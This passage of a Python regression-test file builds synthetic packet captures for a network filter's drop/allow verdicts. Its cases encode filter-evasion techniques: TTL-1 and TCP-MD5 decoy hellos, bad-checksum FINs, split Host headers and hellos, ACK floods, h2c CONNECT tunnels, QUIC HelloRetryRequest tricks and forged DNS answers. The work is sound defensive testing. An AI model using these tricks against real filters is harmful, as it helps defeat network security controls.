def case_socks4_binuid(n):
    """Office: SOCKS4a whose user id has bytes past ASCII (ssh -D and Dante read it to
    its NUL, whatever the bytes): proxy.sig wanted printable ones. Must drop (proxy)."""
    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"\xc3\xa9l\xc3\xa8ve\x01\x7f" + b"\x00" + b"www.example.org\x00"
    return rt_socks4(n, 44098, 4498, req, leak(n)), {"leak": [leak(n)]}


def rt_acks(t, k):
    """k bare ACKs from the client (window updates, each a new window)."""
    for i in range(k):
        t.raw(True, "A", window=64240 - 8 * i, gap=300)


def ssh_after(cap, t, n, both):
    """An SSH session from the server's banner on (the client's banner, both
    KEXINITs), then a marked binary packet from the client (and the server's,
    when both): the rest of an office SSH case."""
    t.data(False, SSH_SRV)
    t.data(True, SSH_CLI)
    t.data(False, ssh_kexinit(n + "s"))
    t.data(True, ssh_kexinit(n + "c"))
    t.data(True, struct.pack("!I", 300) + leak(n) + prand(n + "enc1", 300 - len(leak(n))))
    if both:
        t.data(False, struct.pack("!I", 300) + leak(n) + prand(n + "enc2", 300 - len(leak(n))))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ackflood_ssh(n):
    """Office: SSH to 2222; right after its handshake ACK the client sends 40 bare ACKs
    (window updates) before the server's banner arrives: past classify_packets (32) with
    no payload read. Then an ordinary SSH session. Must drop (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 44041, SOC, 2222, isn=4441, rtt_us=20000)
    t.handshake()
    rt_acks(t, 40)
    return ssh_after(cap, t, n, both=True)


@case
def case_ackflood_vk(n):
    """Office: 40 bare ACKs after the handshake, then the m.vk.com ClientHello. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44042, SOC, 443, isn=4442, rtt_us=20000)
    t.handshake()
    rt_acks(t, 40)
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ackflood_ok(n):
    """Must-allow twin: 40 bare ACKs, then a www.example.org session."""
    cap = Capture()
    t = ETcp(cap, O1, 44043, SOC, 443, isn=4443, rtt_us=20000)
    t.handshake()
    rt_acks(t, 40)
    t.data(True, hello(n, sni="www.example.org"))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n))
    t.close()
    return cap, {"pass": [passm(n)]}


def rt_h2c_connect(authority, marker):
    """The h2c preface, SETTINGS, and a HEADERS frame (END_HEADERS, no END_STREAM)
    for :method CONNECT, :authority host:port (RFC 9113 8.5), no :scheme or :path."""
    hb = (b"\x02\x07CONNECT" + b"\x01" + bytes([len(authority)]) + authority
          + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)
    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
            + h2_frame(1, 4, 1, hb))


def rt_h2c_tunnel(n, cport, isn, authority, inner, mark):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 8080, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, rt_h2c_connect(authority, mark))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, h2_frame(4, 1, 0, b"") + h2_frame(0, 0, 1, hello(n, sni=inner, sid=sid32(mark))))
    t.data(False, h2_frame(0, 0, 1, server_hello_flight(n)))
    t.data(True, h2_frame(0, 0, 1, marked_record(mark, n)))
    t.close()
    return cap


@case
def case_h2c_connect(n):
    """Office: HTTP/2 with prior knowledge to a forward proxy on 8080 (nghttpx, Envoy,
    h2o take CONNECT over h2c): :method CONNECT, :authority www.example.org:443, then the
    tunnelled TLS in DATA frames. The h2 reader notes the CONNECT (h2.c fs->connect) but
    gives only the authority as the flow's host: no proxy mark. Must drop (proxy)."""
    return rt_h2c_tunnel(n, 44051, 4451, b"www.example.org:443", "www.example.org", leak(n)), \
        {"leak": [leak(n)]}


@case
def case_h2c_connect_vk(n):
    """The same, CONNECT m.vk.com:443 and the tunnelled hello for m.vk.com."""
    return rt_h2c_tunnel(n, 44052, 4452, b"m.vk.com:443", VK, leak(n)), {"leak": [leak(n)]}


@case
def case_idle_ssh(n):
    """Office: SSH to 2222, the client connects, 11 s pass before the server's banner
    (a slow or loaded sshd; a client that connects ahead). Must drop (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 44053, SOC, 2222, isn=4453, rtt_us=20000)
    t.handshake()
    cap.idle(11)
    return ssh_after(cap, t, n, both=True)


@case
def case_idle_socks5(n):
    """Office: SOCKS5 to 1080, the client connects and waits 11 s before its greeting."""
    cap = Capture()
    t = ETcp(cap, O1, 44054, SOC, 1080, isn=4454, rtt_us=20000)
    t.handshake()
    cap.idle(11)
    t.data(True, b"\x05\x01\x00")
    t.data(False, b"\x05\x00")
    t.data(True, b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb")
    t.data(False, b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hrr_srvfrag_ok(n):
    """Must-allow twin of rt_hrr_srvfrag_vk: the fragmented HRR, both hellos name
    www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 44028, SOC, 443, isn=4428, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.data(True, ch1)
    t.data(False, rt_hrr_frag_flight(n, 10))
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, passm(n) + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni="www.example.org", sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hrr_ext70_ok(n):
    """Must-allow twin of rt_hrr_ext70_vk: the second hello names www.example.org too."""
    return rt_hrr_custom(n, 44029, 4429, rt_many_ext_hello(n, "www.example.org"), "www.example.org",
                         passm(n)), {"pass": [passm(n)]}


@case
def case_hrr_alert_ok(n):
    """Must-allow twin of rt_hrr_alert_vk: the second hello names www.example.org."""
    m = hs_client_hello(n, sni="www.example.org")
    ch1 = record(22, m[:60]) + b"\x15\x03\x03\x00\x02\x01\x5a" + record(22, m[60:])
    return rt_hrr_custom(n, 44030, 4430, ch1, "www.example.org", passm(n)), {"pass": [passm(n)]}


def rt_anydesk_flow(n, cport, isn, cut, mark, dport=443):
    """An AnyDesk-like ClientHello (no server_name, ALPN anydesk/7.1.11/windows),
    sent whole or cut at byte `cut` (the client's own MSS: a clamped route or a small
    MTU on the attacker's host), then a TLS 1.2 session."""
    alpn = b"anydesk/7.1.11/windows"
    exts = std_exts(n) + [ext(16, struct.pack("!H", len(alpn) + 1) + bytes([len(alpn)]) + alpn)]
    h = record(22, hs_client_hello(n, exts=exts, sid=sid32(mark)))
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
    t.handshake()
    if cut:
        t.send(True, h[:cut])
        t.data(True, h[cut:])
    else:
        t.data(True, h)
    t.data(False, tls12_server_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n))
    t.close()
    return cap


@case
def case_anydesk_ctl(n):
    """Control: the AnyDesk hello in one segment to 443: remote_access (its ALPN)."""
    return rt_anydesk_flow(n, 44061, 4461, 0, leak(n)), {"leak": [leak(n)]}


@case
def case_anydesk_seg(n):
    """Office: the same hello in two segments (cut at byte 100): the AnyDesk line of
    remote_access.sig matches one payload from its record header (^\\x16) to the ALPN,
    the joined bytes hold 64, and no one reads our own reader's ALPN. Must drop."""
    return rt_anydesk_flow(n, 44062, 4462, 100, leak(n)), {"leak": [leak(n)]}


# A self-signed certificate, CN "AnyDesk Client" (generated once, fixed bytes).
RT_ANYDESK_CERT = bytes.fromhex(
    "308201203081c7a00302010202012a300a06082a8648ce3d04030230193117301506035504030c0e416e79"
    "4465736b20436c69656e743020170d3234303130313030303030305a180f3230373430313031303030303030"
    "5a30193117301506035504030c0e416e794465736b20436c69656e743059301306072a8648ce3d020106082a"
    "8648ce3d03010703420004088bb9ff22ab291a74c86fc677ba897baadee370cc6129b82d170ba3fc26415c44"
    "2da9a716067956d91eaa02b93ad409490e87cd5e758ea6a331a1deb75ba846300a06082a8648ce3d04030203"
    "48003045022025ca3c8ec1c251b41295bd3666d69bcca6a9e475289376e3a42951ebd7cf53ff022100b8c899"
    "f0bf98be8c40799d6d40ef33072309a32357e588275b8d3f6a3116c97d")


def rt_anydesk_full(n, cport, isn, cut, mark, dport=443):
    """rt_anydesk_flow with AnyDesk's TLS 1.2 client flight: Certificate ("AnyDesk
    Client", in clear in TLS 1.2), ClientKeyExchange, CertificateVerify, CCS,
    Finished."""
    alpn = b"anydesk/7.1.11/windows"
    exts = std_exts(n) + [ext(16, struct.pack("!H", len(alpn) + 1) + bytes([len(alpn)]) + alpn)]
    h = record(22, hs_client_hello(n, exts=exts, sid=sid32(mark)))

    def hs(tp, b):
        return bytes([tp]) + struct.pack("!I", len(b))[1:] + b
    c = RT_ANYDESK_CERT
    certs = struct.pack("!I", len(c))[1:] + c
    flight = record(22, hs(11, struct.pack("!I", len(certs))[1:] + certs)
                    + hs(16, b"\x41\x04" + prand(n + "cke", 64))
                    + hs(15, b"\x04\x03\x00\x47" + prand(n + "cv", 71)), 0x0303)
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
    t.handshake()
    if cut:
        t.send(True, h[:cut])
        t.data(True, h[cut:])
    else:
        t.data(True, h)
    t.data(False, tls12_server_flight(n))
    t.data(True, flight + CCS + record(22, prand(n + "fin", 40), 0x0303))
    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
    t.data(True, marked_record(mark, n))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_anydesk_cert_seg(n):
    """rt_anydesk_seg with AnyDesk's client certificate ("AnyDesk Client") in its TLS 1.2
    flight: remote_access by ALPN or certificate. Must drop."""
    return rt_anydesk_full(n, 44063, 4463, 100, leak(n)), {"leak": [leak(n)]}


@case
def case_anydesk_cert_ctl(n):
    """Control: the same with the hello in one segment."""
    return rt_anydesk_full(n, 44064, 4464, 0, leak(n)), {"leak": [leak(n)]}


def rt_quic_hrr(n, cport, name2, mark, must_pass):
    """QUIC v1 with a HelloRetryRequest: the client's Initial (ClientHello for
    www.example.org, CRYPTO offset 0), the server's Initial (the HRR, opaque here),
    then the client's second Initial (under the first keys, to the server's
    connection ID, packet number 1) with an ACK and the second ClientHello at CRYPTO
    offset len(CH1): the Initial CRYPTO stream goes on after an HRR (RFC 9000 19.6,
    RFC 9001 4.1.3; unlike a Retry, nothing restarts). Then 1-RTT both ways."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    srv = prand(n + "srvcid", 8)
    ch1 = quic_hs_hello(n, "www.example.org")
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, ch1)), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\xc0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srv", 1150), gap=20000)
    ch2 = quic_hs_hello(n + "2", name2)
    frames = b"\x02\x00\x00\x00\x00" + quic_crypto_frame(len(ch1), ch2)
    udp(cap, O1, cport, SOC, 443, quic_initial(srv, scid, 1, frames, key_dcid=dcid), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\xe0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srvhs", 1150), gap=20000)
    udp(cap, O1, cport, SOC, 443, b"\x41" + srv + mark + prand(n + "c2", 300), gap=20000)
    udp(cap, SOC, 443, O1, cport, b"\x41" + scid + mark + prand(n + "s2", 300), gap=20000)
    return cap, ({"pass": [mark]} if must_pass else {"leak": [mark]})


@case
def case_quic_hrr_ok(n):
    """Must-allow: an honest QUIC client answered with a HelloRetryRequest (it offered a
    key share for a group the server does not take) sends its second ClientHello, for the
    same name, at the CRYPTO offset where the first ended. quic_crypto_same joins it past
    the first, and judge_quic_hello2 reads it whole (same name, same ECH) before the
    datagram that completes it goes."""
    return rt_quic_hrr(n, 44071, "www.example.org", passm(n), True)


@case
def case_quic_hrr_fb(n):
    """The same, the second hello names www.facebook.com: must drop."""
    return rt_quic_hrr(n, 44072, FB, leak(n), False)


def rt_quic_hrr_more(n, cport, msgs, mark, must_pass):
    """rt_quic_hrr with the client's second flight of its own: msgs, a list of
    (message, cut) after the first hello (www.example.org), their CRYPTO bytes one after
    the other from len(CH1); each message goes in two Initials (packet numbers from 1),
    split at `cut` (0: one Initial)."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    srv = prand(n + "srvcid", 8)
    ch1 = quic_hs_hello(n, "www.example.org")
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, ch1)), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\xc0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srv", 1150), gap=20000)
    off, pn = len(ch1), 1
    for m, cut in msgs:
        parts = [(0, m)] if not cut else [(0, m[:cut]), (cut, m[cut:])]
        for at, part in parts:
            frames = b"\x02\x00\x00\x00\x00" + quic_crypto_frame(off + at, part)
            udp(cap, O1, cport, SOC, 443, quic_initial(srv, scid, pn, frames, key_dcid=dcid),
                gap=2000)
            pn += 1
        off += len(m)
    udp(cap, SOC, 443, O1, cport, b"\xe0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srvhs", 1150), gap=20000)
    udp(cap, O1, cport, SOC, 443, b"\x41" + srv + mark + prand(n + "c2", 300), gap=20000)
    udp(cap, SOC, 443, O1, cport, b"\x41" + scid + mark + prand(n + "s2", 300), gap=20000)
    return cap, ({"pass": [mark]} if must_pass else {"leak": [mark]})


@case
def case_quic_hrr_split_ok(n):
    """Must-allow: quic_hrr_ok with the second hello (same name) cut over two Initials
    (a post-quantum key share makes it longer than a datagram): the first part goes
    unread (no server acts on part of a hello), the second completes it."""
    return rt_quic_hrr_more(n, 44073, [(quic_hs_hello(n + "2", "www.example.org", pad=1400), 700)],
                            passm(n), True)


@case
def case_quic_hrr_split_fb(n):
    """quic_hrr_split_ok with the second hello for www.facebook.com: the Initial that
    completes it must be dropped, and the flow with it."""
    return rt_quic_hrr_more(n, 44074, [(quic_hs_hello(n + "2", FB, pad=1400), 700)],
                            leak(n), False)


@case
def case_quic_hrr_third_fb(n):
    """After an HRR, a second hello for the same name, then a third for www.facebook.com
    further on the CRYPTO stream. TLS 1.3 allows one HelloRetryRequest (RFC 8446 4.1.4):
    a server refuses it, or one with a bug reads it. Any CRYPTO byte past the second
    hello refuses the flow."""
    return rt_quic_hrr_more(n, 44075, [(quic_hs_hello(n + "2", "www.example.org"), 0),
                                       (quic_hs_hello(n + "3", FB), 0)], leak(n), False)


@case
def case_quic_hrr_notch_vk(n):
    """After the hello, CRYPTO bytes that are no ClientHello (a Finished-like message, type
    20) at the offset a second hello would take: no client sends one in Initials. Must
    drop (the 1-RTT bytes after carry the marker)."""
    return rt_quic_hrr_more(n, 44076, [(b"\x14\x00\x00\x20" + prand(n + "fin", 32), 0)],
                            leak(n), False)


def rt_keepalives(t, k):
    """k TCP keep-alive probes from the client (Windows style: one byte at the
    sequence number before its next, RFC 9293 3.8.4), each answered by the server's ACK."""
    for i in range(k):
        t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=300)
        t.raw(False, "A", gap=300)


@case
def case_kalive_vk(n):
    """Office: 20 keep-alive probes (40 packets with the server's ACKs) before the
    m.vk.com hello. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44081, SOC, 443, isn=4481, rtt_us=20000)
    t.handshake()
    rt_keepalives(t, 20)
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_kalive_ssh(n):
    """Office: SSH to 2222, 20 keep-alive probes and their ACKs before the server's
    banner. Must drop (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 44082, SOC, 2222, isn=4482, rtt_us=20000)
    t.handshake()
    rt_keepalives(t, 20)
    return ssh_after(cap, t, n, both=False)


@case
def case_ackflood_socks5(n):
    """Office: 40 bare ACKs, then a SOCKS5 greeting in its own segment. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44083, SOC, 1080, isn=4483, rtt_us=20000)
    t.handshake()
    rt_acks(t, 40)
    t.data(True, b"\x05\x01\x00")
    t.data(False, b"\x05\x00")
    t.data(True, b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb")
    t.data(False, b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_idle_http_ok(n):
    """Must-allow twin of rt_idle_ssh: the client connects, 11 s pass, then a plain HTTP
    request for www.example.org and its answer."""
    cap = Capture()
    t = ETcp(cap, O1, 44084, SOC, 80, isn=4484, rtt_us=20000)
    t.handshake()
    cap.idle(11)
    t.data(True, http_req(b"www.example.org", passm(n)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + passm(n) + b"x" * 20)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_http_3k_vk(n):
    """Office HTTP: one 3 KB Cookie line before Host: m.vk.com (a 3.1 KB head in three
    segments; nginx's default 1 KB client_header_buffer grows into its 8 KB large
    buffers). The head is joined whole in the slot, but hs_http_request_check and
    hs_http_host look at its first HS_SCAN_MAX (2048) bytes only. Must drop."""
    return rt_big_http(n, 44013, 4413, b"m.vk.com", leak(n), cookie=3000, ncookie=1), \
        {"leak": [leak(n)]}


@case
def case_http_3k_ok(n):
    """Must-allow twin: the same 3 KB head for www.example.org."""
    return rt_big_http(n, 44014, 4414, b"www.example.org", passm(n), cookie=3000, ncookie=1), \
        {"pass": [passm(n)]}


@case
def case_http_3k_connect(n):
    """Office: CONNECT www.example.org:443 HTTP/1.1 to port 3128 with a 3 KB
    Proxy-Authorization line before Host, then the tunnel: proxy (the request line is in
    the first bytes)."""
    cap = Capture()
    t = ETcp(cap, O1, 44015, SOC, 3128, isn=4415, rtt_us=20000)
    t.handshake()
    head = (b"CONNECT www.example.org:443 HTTP/1.1\r\nProxy-Authorization: Basic " + b"QQ" * 1500
            + b"\r\nHost: www.example.org:443\r\n\r\n")
    rt_send_mss(t, head)
    t.data(False, b"HTTP/1.1 200 Connection established\r\n\r\n")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_http_3k_cut_vk(n):
    """rt_http_3k_vk with the Host line cut by the 1448-byte segment boundary ("Host: m.v"
    | "k.com"): no one segment holds the name, and our joined head is read only in its
    first 2048 bytes (HS_SCAN_MAX). Must drop."""
    pre = len(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n") + len(b"Cookie: c0=") + 2
    c = 2 * 1448 - pre - len(b"Host: m.v")
    return rt_big_http(n, 44016, 4416, b"m.vk.com", leak(n), cookie=c, ncookie=1), \
        {"leak": [leak(n)]}


@case
def case_http_3k_cut_ok(n):
    """Must-allow twin: the same cut for www.example.org."""
    pre = len(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n") + len(b"Cookie: c0=") + 2
    c = 2 * 1448 - pre - len(b"Host: www.ex")
    return rt_big_http(n, 44017, 4417, b"www.example.org", passm(n), cookie=c, ncookie=1), \
        {"pass": [passm(n)]}


def rt_dht_query(seed, mark):
    """A BEP 5 get_peers query (bencoded, keys sorted), the marker in its token."""
    return (b"d1:ad2:id20:" + prand(seed + "id", 20) + b"9:info_hash20:" + prand(seed + "ih", 20)
            + b"e1:q9:get_peers1:t" + str(len(mark)).encode() + b":" + mark + b"1:y1:qe")


@case
def case_dht_ctl(n):
    """Control: office, a DHT get_peers query to a node's UDP 6881 and its answer: p2p."""
    cap = Capture()
    udp(cap, O1, 44091, SOC, 6881, rt_dht_query(n, b"aa"))
    udp(cap, SOC, 6881, O1, 44091, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
        + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
    udp(cap, O1, 44091, SOC, 6881, rt_dht_query(n + "2", leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_udpflood_dht(n):
    """Office: 40 datagrams of junk to a DHT node (libtorrent drops what does not bdecode;
    past classify_packets, nothing read: given up, allowed), then DHT queries on the same
    socket. Must drop (p2p)."""
    cap = Capture()
    for i in range(40):
        udp(cap, O1, 44092, SOC, 6881, prand(n + "j%d" % i, 30), gap=300)
    udp(cap, O1, 44092, SOC, 6881, rt_dht_query(n, leak(n)))
    udp(cap, SOC, 6881, O1, 44092, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
        + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
    return cap, {"leak": [leak(n)]}


@case
def case_udpflood_junk_ok(n):
    """Office: twin of udpflood_dht: an unknown protocol's datagrams past the budget (given
    up, allowed), each read again by the payload signatures, and none of them a blocked
    class's. Must pass, every datagram."""
    cap = Capture()
    for i in range(40):
        udp(cap, O1, 44093, SOC, 6881, prand(n + "j%d" % i, 30), gap=300)
    udp(cap, O1, 44093, SOC, 6881, b"\x17\x02" + passm(n) + prand(n + "tail", 40))
    udp(cap, SOC, 6881, O1, 44093, b"\x18\x02" + prand(n + "ans", 40))
    return cap, {"pass": [passm(n)]}


RT_DECOY = "ex.a.org"   # the length of m.vk.com: the copies overlap byte for byte
assert len(RT_DECOY) == len(VK)


@case
def case_ttl_hello_vk(n):
    """Office: insert_ttl's way: a ClientHello copy for ex.a.org (no class) with TTL 1
    (it expires before the server), then the m.vk.com hello at the same sequence number.
    The first copy stays in the slot (as Linux keeps what it queued), but the server never
    queued it. Must drop (social, or refused)."""
    cap = Capture()
    t = ETcp(cap, O1, 44101, SOC, 443, isn=44101, rtt_us=20000)
    t.handshake()
    d = hello(n, sni=RT_DECOY)
    h = hello(n, sni=VK, sid=None)
    assert len(d) == len(h)
    t.raw(True, "PA", d, ipkw={"ttl": 1})
    t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hrr_ttl_vk(n):
    """Office: hellos for ex.a.org, the HRR, then a second hello copy for ex.a.org with TTL
    1 and the second hello for m.vk.com at the same sequence number (the marker in its
    padding): the slot keeps the first copy and judge_hello2 compares it. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44102, SOC, 443, isn=44102, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni=RT_DECOY)
    t.data(True, ch1)
    t.data(False, hrr_flight(n))
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    d = CCS + hello(n, sni=RT_DECOY, sid=sid, extra=[ext(21, b"\x00" * (len(leak(n)) + 40))])
    h = CCS + hello(n, sni=VK, sid=sid, extra=[ext(21, leak(n) + b"\x00" * 40)])
    assert len(d) == len(h)
    t.raw(True, "PA", d, ipkw={"ttl": 1})
    t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ttl_same_ok(n):
    """Must-allow twin of rt_ttl_hello_vk: the www.example.org hello with TTL 1 (lost
    after us), then the same bytes again with the ordinary TTL (its retransmission)."""
    cap = Capture()
    t = ETcp(cap, O1, 44103, SOC, 443, isn=44103, rtt_us=20000)
    t.handshake()
    h = hello(n, sni="www.example.org")
    t.raw(True, "PA", h, ipkw={"ttl": 1})
    t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hrr_ttl_same_ok(n):
    """Must-allow twin of rt_hrr_ttl_vk: the second hello (www.example.org) with TTL 1,
    then the same bytes again."""
    cap = Capture()
    t = ETcp(cap, O1, 44104, SOC, 443, isn=44104, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.data(True, ch1)
    t.data(False, hrr_flight(n))
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    h = CCS + hello(n, sni="www.example.org", sid=sid, extra=[ext(21, passm(n) + b"\x00" * 40)])
    t.raw(True, "PA", h, ipkw={"ttl": 1})
    t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_md5_hello_vk(n):
    """Office: rt_ttl_hello_vk with a TCP-MD5 signature option (RFC 2385) on the decoy
    instead of a short TTL: a server without the key drops it. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44105, SOC, 443, isn=44105, rtt_us=20000)
    t.handshake()
    d = hello(n, sni=RT_DECOY)
    h = hello(n, sni=VK)
    t.raw(True, "PA", d, options=[(19, prand(n + "md5", 16)), ("NOP", None), ("NOP", None)])
    t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}



# --- the review of the fourteenth session's fixes (a fifth helper, reading only)

@case
def case_big_hello_v300_vk(n):
    """big_hello_vk with its records of version 0x0300 (OpenSSL and Go take any 3.x on
    the first record): our reader refused it as record_version, not too_long, which
    the office allows, and the lenient names walk read no name past 16 KiB. A refused
    hello whose names the walk cannot read is refused whatever the zone does."""
    return rt_big_flow(n, 42195, 42195, VK, leak(n), version=0x0300), {"leak": [leak(n)]}


@case
def case_office_hrr_fin_vk(n):
    """office_hrr_other_vk with a bare FIN from the client, its checksum wrong (the
    server discards it), between the first hello and the HRR: counted, it ended the
    HRR watch (the second hello became "data beyond a FIN", an exception the office
    allows, before the slot read it). A flow that keeps its slot counts a FIN only
    from a segment the receiver keeps."""
    cap = Capture()
    t = ETcp(cap, O1, 42196, SOC, 443, isn=42196, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.data(True, ch1)
    t.data(False, hrr_flight(n))  # the office allows at the server's first bytes
    t.raw(True, "FA", tcpkw={"chksum": 0xdead})
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, leak(n) + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni=VK, sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n + "req"))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_gap_idle_ssh(n):
    """idle_ssh with one byte first sent past a gap (dropped, never counted), then 11 s
    of quiet: the byte took a first-bytes slot, and a flow with a slot was not parked,
    so the time budget gave it up (allowed) before the banner. Parked now, its slot
    closed."""
    cap = Capture()
    t = ETcp(cap, O1, 42197, SOC, 2222, isn=42197, rtt_us=20000)
    t.handshake()
    t.raw(True, "PA", b"S", seq=t.cseq + 1)
    # other hosts' datagrams move the clock on while this flow is quiet, so
    # that the sweep of undecided flows runs past its time budget (as it does
    # live), before its banner
    cap.idle(10.3)
    for i in range(60):
        udp(cap, "10.20.1.21", 40000 + i, SOC, 9999, b"tick", gap=10000)
    return ssh_after(cap, t, n, both=True)


@case
def case_dns_error_forged(n):
    """The resolver fails the query (SERVFAIL: a name under a wildcard endpoint that does
    not exist, or a malformed query), then an accomplice's forged answer for it names
    the attacker's server: an error left the query waiting, and the forged answer
    taught. Now an address answer after an error is a conflict."""
    cap = Capture()
    q = bytes(DNS(id=0x2209, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    udp(cap, S1, 43016, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 43016,
        bytes(DNS(id=0x2209, qr=1, rd=1, ra=1, rcode=2, qd=DNSQR(qname=E2M_NAME, qtype="A"))),
        gap=2000)
    udp(cap, RESOLVER, 53, S1, 43016, forged_dns_answer(0x2209, E2M_NAME, ATK), gap=2000)
    cap.idle(0.05)
    tls_flow(cap, S1, 43015, ATK, 2209, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


def main(argv):
    if len(argv) >= 2 and argv[1] == "--list":
        print("\n".join(CASES))
        return 0
    if len(argv) >= 2 and argv[1] == "--list-open":
        print("\n".join(OPEN))
        return 0
    if len(argv) < 2 or argv[1].startswith("-"):
        sys.stderr.write(__doc__)
        return 2
    outdir, names = argv[1], argv[2:] or list(CASES)
    unknown = [x for x in names if x not in CASES and x not in OPEN]
    if unknown:
